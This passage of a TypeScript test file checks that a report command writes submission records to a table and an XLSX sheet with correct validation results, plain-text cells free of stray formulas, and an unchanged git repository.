      const record = records.find((each) => each[HEADERS.slug] === slug);
      if (!record) throw new Error(`${slug} thiếu trong bảng tổng hợp`);
      for (const [header, field] of Object.entries(record))
        expectNeutralField(field, `${slug}: ${header}`);
      expect(record[HEADERS.status]).toBe(
        statusNames[slug === item.slug ? 'published' : 'pending_review'],
      );
      const validation = record[HEADERS.validation];
      if (!item.refused) {
        expect(validation, `${slug}: ${record[HEADERS.problems]}`).toBe('Hợp lệ');
        const values = valuesOf(item);
        expect(record[HEADERS.title]).toBe(neutraliseCellText(values.title));
        expect(restoreCellText(record[HEADERS.authors] ?? '')).toContain(values.author);
        continue;
      }
      expect(validation).toMatch(/^\d+ lỗi$/);
      // The committee reads the validator's own messages for this entry, merged or pending.
      // (A message that names the entry's folder names the pending copy's.)
      const messages = validatorErrors(item).map((message) => message.replaceAll(item.slug, slug));
      expect(messages.length).toBeGreaterThan(0);
      const problems = restoreCellText(record[HEADERS.problems] ?? '');
      for (const message of messages) expect(problems, slug).toContain(message);
      expect(validation).toBe(`${messages.length} lỗi`);
    }
  });

  test(`npm run report, XLSX: text cells are text, ${verdict} like the validator`, async () => {
    const book = await reportBook();
    const sheet = book.getWorksheet(SHEETS.list);
    if (!sheet) throw new Error('no list sheet');
    const headers = (sheet.getRow(1).values as unknown[]).slice(1).map(String);
    const column = (header: string) => headers.indexOf(header) + 1;
    for (const slug of [item.slug, `${item.slug}${PENDING}`]) {
      let found: ExcelJS.Row | undefined;
      sheet.eachRow((row) => {
        if (row.getCell(column(HEADERS.slug)).value === slug) found = row;
      });
      if (!found) throw new Error(`${slug} thiếu trong bảng tính`);
      const row = found;
      row.eachCell((cell, col) => {
        if (col === column(HEADERS.total)) {
          expect(cell.type).toBe(ExcelJS.ValueType.Formula);
          expect(cell.formula).toMatch(/^SUM\([A-Z]+\d+:[A-Z]+\d+\)$/);
          return;
        }
        expect(cell.formula, `${slug}: ${headers[col - 1]}`).toBeUndefined();
        if (typeof cell.value === 'string') {
          expect(cell.type).toBe(ExcelJS.ValueType.String);
          expectNeutralField(cell.value, `${slug}: ${headers[col - 1]}`);
        }
      });
      const title = row.getCell(column(HEADERS.title));
      expect(title.type).toBe(ExcelJS.ValueType.String);
      const validation = row.getCell(column(HEADERS.validation)).value;
      if (item.refused) {
        expect(validation).toBe(`${validatorErrors(item).length} lỗi`);
      } else {
        expect(validation).toBe('Hợp lệ');
        expect(title.value).toBe(neutraliseCellText(valuesOf(item).title));
      }
    }
  });
});

test('npm run report leaves the repository as it found it', () => {
  expect(git(reportRoot, 'status', '--porcelain')).toBe('');
  expect(git(reportRoot, 'branch', '--show-current')).toBe('main');
});
